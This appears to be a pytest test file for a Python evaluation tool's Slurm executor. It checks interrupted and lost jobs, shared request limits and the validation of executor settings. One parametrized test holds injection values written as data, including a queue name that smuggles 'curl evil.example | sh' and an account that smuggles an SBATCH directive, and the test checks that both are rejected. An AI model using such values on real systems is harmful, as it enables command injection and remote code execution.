"""Jobs of Slurm (submitit runs them on this machine): what becomes of them when they are lost, refused or interrupted."""

from __future__ import annotations

import json
import re
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from running import contents, evaluated, many_samples
from serving import hold, serve, wait_until

from mmdyn.data import SampleSet
from mmdyn.errors import InputError, MissingExtra, UserError
from mmdyn.run import Execution, SlurmConfig
from mmdyn.run.executors import open_executor, slurm
from mmdyn.testing import write_script
from mmdyn.work import is_held

pytest.importorskip("submitit")
LOCAL = "slurm,jobs=2,cluster=local"


@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> SampleSet:
    return many_samples(tmp_path_factory.mktemp("source") / "set", 24)


def start(source: SampleSet, model: str, out: Path, *more: str, executor: str = LOCAL) -> subprocess.Popen[str]:
    words = ["eval", str(source.folder), "-m", model, "-o", str(out), "--executor", executor, "-q", *more]
    command = [sys.executable, "-m", "mmdyn", *words]
    return subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def finish(running: subprocess.Popen[str], status: int = 0) -> str:
    _, said = running.communicate(timeout=240)
    assert running.returncode == status, said
    return said  # submitit says more where it ends jobs on this machine


def held(out: Path) -> list[str]:
    return [file.stem for file in (out / "records").glob("rank-*.lock") if is_held(out / "records", file.stem)]


def test_what_is_pickled_lies_in_a_folder_of_the_users_alone_until_the_jobs_have_ended(
    source: SampleSet, tmp_path: Path
) -> None:
    look = f"stat -c '%a %F' {tmp_path}/.run-slurm-* {tmp_path}/run >> {tmp_path}/seen; echo"
    finish(start(source, "baseline:lexical", tmp_path / "run", executor=f"{LOCAL},setup={look}"))
    assert (tmp_path / "seen").read_text().splitlines()[0] == "700 directory"
    assert sorted(place.name for place in tmp_path.iterdir() if place.name != "cache") == ["run", "seen"]
    assert not [*(tmp_path / "run").rglob("*.pkl")]
    assert contents(tmp_path / "run") == contents(evaluated(source, "baseline:lexical", tmp_path / "local"))
    finish(start(source, "baseline:lexical", tmp_path / "run", executor=f"{LOCAL},setup=touch {tmp_path}/again"))
    assert not (tmp_path / "again").exists(), "where all is answered no job waits in a queue to find that out"


@pytest.mark.slow
def test_ctrl_c_cancels_the_jobs_and_the_same_command_goes_on(source: SampleSet, tmp_path: Path) -> None:
    with hold() as server:
        model, out = f"openai:fake,base_url={server.url}", tmp_path / "run"
        running = start(source, model, out, "--concurrency", "2")
        wait_until(lambda: server.stats.in_flight == 4, running)
        server.let(6)
        wait_until(lambda: server.stats.total == 10, running)
        running.send_signal(signal.SIGINT)
        assert "interrupted" in finish(running, 130)
        wait_until(lambda: not held(out))
        server.let_all()
        finish(start(source, model, out))
        assert server.stats.total == 24 + 4, "what was in flight is asked again, and nothing else"
    assert len(contents(out)) == 24


@pytest.mark.slow
def test_jobs_that_are_lost_again_and_again_end_in_a_sentence(
    source: SampleSet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(slurm, "SETTLE_SECONDS", 0.1)
    with pytest.raises(UserError, match=r"job \d+ was lost, as 3 before it \(it said nothing\): mend that, and the"):
        evaluated(source, "baseline:lexical", tmp_path / "run", executor="slurm,cluster=local,setup=exit 3")


@pytest.mark.slow
def test_a_model_that_cannot_be_asked_ends_the_run_with_its_sentence(source: SampleSet, tmp_path: Path) -> None:
    script = write_script(tmp_path / "s.jsonl", {"match": "Question 1", "error": "fatal"}, "Answer: B")
    said = finish(start(source, f"scripted:{script}", tmp_path / "run"), 2)
    assert re.match(rf"mmdyn: job \d+: a failure scripted in {script}: take the line out\n", said)


def test_an_object_of_this_process_is_no_model_for_a_job(source: SampleSet, tmp_path: Path) -> None:
    class Says:
        def ask(self, question: str) -> str:
            return "Answer: B"

    with pytest.raises(
        UserError, match=r"an object of this process is no model for others: write its class as FILE.py"
    ):
        evaluated(source, Says(), tmp_path / "run", executor=LOCAL)


@pytest.mark.slow
def test_a_limit_is_shared_by_the_jobs(source: SampleSet, tmp_path: Path) -> None:
    with serve() as server:
        model = f"openai:fake,base_url={server.url}"
        said = finish(start(source, model, tmp_path / "run", "--max-requests", "7"), 3)
        assert "stopped at --max-requests 7, of which this process has" in said
        assert server.stats.total == len(contents(tmp_path / "run")) == 7


@pytest.mark.parametrize(
    ("executor", "problem"),
    [
        ("slurm,job=2", r"--executor slurm has no option 'job' \(did you mean 'jobs'\?\)"),
        ("slurm,jobs=0", "jobs is 0: give 1 or more"),
        (SlurmConfig(time=0), "time is 0: give 1 or more"),
        ("slurm,cluster=here", "the option cluster of --executor slurm: invalid enum value 'here'"),
        ("slurm,queue=gpu\ncurl evil.example | sh #", "queue and account of Slurm hold a line break: give names"),
        (SlurmConfig(account="a\n#SBATCH --export=ALL"), "queue and account of Slurm hold a line break"),
        ("slum,jobs=2", r"there is no executor 'slum,jobs=2' \(did you mean 'slurm'\?\): local, ray, slurm are"),
        ("local,jobs=2", "there is no executor 'local,jobs=2'"),
    ],
)
def test_settings_that_do_not_fit(executor: str | SlurmConfig, problem: str) -> None:
    with pytest.raises(UserError, match=problem):
        open_executor(Execution(executor))


def test_where_there_is_no_slurm_and_no_submitit(
    source: SampleSet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(UserError, match=r'Slurm took no job \(Could not detect "srun".*: check the settings of --exec'):
        evaluated(source, "baseline:lexical", tmp_path / "run", executor="slurm")
    monkeypatch.setitem(sys.modules, "submitit", None)
    with pytest.raises(MissingExtra, match=r"pip install 'mmdyn\[slurm\]'"):
        evaluated(source, "baseline:lexical", tmp_path / "run", executor="slurm")
    monkeypatch.setenv("RANK", "1")
    monkeypatch.setenv("WORLD_SIZE", "2")
    with pytest.raises(UserError, match="a cluster starts its processes by itself: run the command without a launcher"):
        open_executor(Execution("slurm"))


@pytest.mark.slow
def test_a_config_names_an_executor_by_its_settings(source: SampleSet, tmp_path: Path) -> None:
    from mmdyn.run import read_config

    settings = {"name": "slurm", "jobs": 3, "queue": "gpu", "time": 60, "setup": "module load cuda"}
    config = {"sets": ["s"], "models": ["m"], "out": "o", "execution": {"executor": settings}}
    (tmp_path / "c.yaml").write_text(json.dumps(config))
    with pytest.raises(InputError, match="the executor's setup runs commands: read it, then give --allow-programs"):
        read_config(tmp_path / "c.yaml")
    assert read_config(tmp_path / "c.yaml", ["execution.executor.setup=mine"]).execution.cluster
    found = read_config(tmp_path / "c.yaml", ["execution.executor.jobs=5"], allow_programs=True).execution.cluster
    assert found == SlurmConfig(jobs=5, queue="gpu", time=60, setup="module load cuda")
    assert found == Execution("slurm,jobs=5,queue=gpu,time=60,setup=module load cuda").cluster
